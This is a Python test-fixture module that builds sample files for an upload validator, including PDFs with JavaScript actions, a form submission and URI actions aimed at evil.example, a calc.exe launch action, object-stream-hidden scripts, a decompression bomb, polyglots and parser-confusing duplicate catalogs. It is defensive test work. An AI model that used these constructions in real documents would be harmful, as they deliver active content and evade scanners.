"""Every sample the upload tests use, generated here (no binary committed)."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

from pypdf import PdfWriter


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def valid_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _write(writer)


def pdf_with_text() -> bytes:
    """A page with a compressed content stream, as real exports have."""
    content = b"BT /F1 12 Tf 72 720 Td (Minutes du greffe) Tj ET"
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            stream(zlib.compress(content), b"/Filter /FlateDecode"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("payload.exe", b"MZ not really")
    return _write(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _write(writer)


def pdf_with_page_entry(entry: bytes) -> bytes:
    """A one-page PDF whose page dictionary carries ``entry`` (e.g. an /AA or /Annots)."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + entry + b" >>",
        ]
    )


def pdf_with_catalog_entry(entry: bytes) -> bytes:
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + entry + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


BENIGN_OPEN_ACTIONS = {
    "destination": b"/OpenAction [3 0 R /Fit]",
    "goto": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
}


def link_annotation(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action + b" >>]"


ACTIVE_PDFS = {
    "javascript_name_tree": lambda: pdf_with_catalog_entry(
        b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"
    ),
    "hex_escaped_javascript": lambda: pdf_with_catalog_entry(
        b"/OpenAct#69on << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    ),
    "open_action_uri": lambda: pdf_with_catalog_entry(
        b"/OpenAction << /S /URI /URI (http://evil.example) >>"
    ),
    "additional_actions": lambda: pdf_with_page_entry(
        b"/AA << /O << /S /URI /URI (http://evil.example) >> >>"
    ),
    "launch": lambda: pdf_with_page_entry(link_annotation(b"<< /S /Launch /F (calc.exe) >>")),
    "embedded_file": pdf_with_attachment,
    "xfa": lambda: pdf_with_catalog_entry(b"/AcroForm << /Fields [] /XFA (<xdp/>) >>"),
    "submit_form": lambda: pdf_with_page_entry(
        link_annotation(b"<< /S /SubmitForm /F (http://evil.example) >>")
    ),
    "rich_media": lambda: pdf_with_page_entry(
        b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]"
    ),
    "javascript_in_object_stream": lambda: pdf_with_object_stream(referenced=True),
    "orphan_javascript_in_object_stream": lambda: pdf_with_object_stream(referenced=False),
}


def pdf_with_object_stream(*, referenced: bool) -> bytes:
    """PDF 1.5: the JavaScript action lives only inside a compressed object stream."""
    data = object_stream_pdf(
        {
            4: b"<< /JavaScript << /Names [(x) 5 0 R] >> >>",
            5: b"<< /S /JavaScript /JS (app.alert(1)) >>",
        },
        catalog_extra=b" /Names 4 0 R" if referenced else b"",
    )
    assert b"JavaScript" not in data
    return data


def pdf_without_active_object_stream() -> bytes:
    """The same structure with harmless packed objects: a benign control."""
    return object_stream_pdf(
        {4: b"<< /Title (Minutes) /Producer (Guichet tests) >>", 5: b"[1 2 3]"},
        catalog_extra=b"",
    )


def object_stream_pdf(packed: dict[int, bytes], *, catalog_extra: bytes) -> bytes:
    """Objects 4 and 5 packed in object stream 6, with a cross-reference stream (7)."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>"
    header, body = b"", b""
    for number, text in packed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    objstm = stream(
        zlib.compress(header + body),
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(header)),
    )
    plain = {
        1: catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        6: objstm,
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, text in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    xref_number = 7
    offsets[xref_number] = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 65535)
    for number in range(1, xref_number + 1):
        if number in packed:
            index = list(packed).index(number)
            rows += b"\x02" + struct.pack(">IH", 6, index)
        else:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
    xref = stream(rows, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1))
    out += b"%d 0 obj\n" % xref_number + xref + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def flate_bomb_pdf() -> bytes:
    bomb = zlib.compress(b"\x00" * 200_000_000, 9)
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream(bomb, b"/Filter /FlateDecode"),
        ]
    )


def nested_arrays_pdf(depth: int = 10_000) -> bytes:
    return pdf_with_page_entry(b"/Junk " + b"[" * depth + b"]" * depth)


def many_pages_pdf(pages: int = 10_000) -> bytes:
    """One page object referenced ``pages`` times: small file, huge page count."""
    kids = b" ".join(b"3 0 R" for _ in range(pages))
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def broken_xref_pdf() -> bytes:
    """Valid objects, but the xref points into nowhere and the trailer has no root."""
    data = valid_pdf()
    start = data.rindex(b"xref")
    return data[:start] + b"xref\n0 2\ngarbage garbage\ntrailer\n<< /Size 2 >>\n%%EOF\n"


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def build_pdf(objects: list[bytes]) -> bytes:
    """A classic PDF with a correct cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    """A 1×1 grey baseline JPEG, marker by marker."""

    def segment(marker: int, body: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body

    quant = bytes([0]) + bytes([1] * 64)
    frame = struct.pack(">BHHB", 8, 1, 1, 1) + bytes([1, 0x11, 0])
    dc_table = bytes([0x00]) + bytes([0, 1] + [0] * 14) + bytes([0])
    ac_table = bytes([0x10]) + bytes([0, 1] + [0] * 14) + bytes([0])
    scan = bytes([1, 1, 0x00, 0, 63, 0])
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, quant)
        + segment(0xC0, frame)
        + segment(0xC4, dc_table)
        + segment(0xC4, ac_table)
        + segment(0xDA, scan)
        + b"\x00\x00"
        + b"\xff\xd9"
    )


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.exe", b"MZ")
    return buffer.getvalue()


RENAMED_TO_PDF = {
    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "zip": zip_archive(),
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200,
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200,
    "gif_then_pdf": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + valid_pdf(),
    "html_then_pdf": b"<html><script>alert(1)</script></html>\n" + valid_pdf(),
    "junk_256_then_pdf": bytes(range(256)) + valid_pdf(),
    "junk_1024_then_pdf": bytes(range(256)) * 4 + valid_pdf(),
    "one_byte": b"%",
}


# --- Files that say different things to different readers (one revision is stored) -----------
JS_CATALOG = (
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
)


def _one_page() -> bytes:
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def repairable_xref_pdf() -> bytes:
    """Every cross-reference offset is 7 bytes off: only a repairing reader opens it."""
    data = _one_page()
    start = data.index(b"xref\n")
    table = re.sub(
        rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m.group(1)) + 7), data[start:]
    )
    return data[:start] + table


def incremental_update_pdf(catalog: bytes, *, with_xref: bool = True) -> bytes:
    """A valid one-page PDF plus an update appended after its ``%%EOF`` that redefines the
    catalog (object 1); ``with_xref=False`` appends the object alone, as an injected tail."""
    data = bytearray(_one_page())
    previous = int(re.findall(rb"startxref\n(\d+)", bytes(data))[-1])
    offset = len(data)
    data += b"1 0 obj\n" + catalog + b"\nendobj\n"
    if with_xref:
        xref = len(data)
        data += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % offset
        data += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            previous,
            xref,
        )
    return bytes(data)


def duplicate_catalog_pdf() -> bytes:
    """Object 1 defined twice in the body: the table names the plain one, a reader that scans
    the file (or trusts the last definition) finds the one with JavaScript."""
    data = _one_page()
    start = data.index(b"xref\n")
    out = data[:start] + b"1 0 obj\n" + JS_CATALOG + b"\nendobj\n"
    return out + re.sub(rb"startxref\n\d+", b"startxref\n%d" % len(out), data[start:])
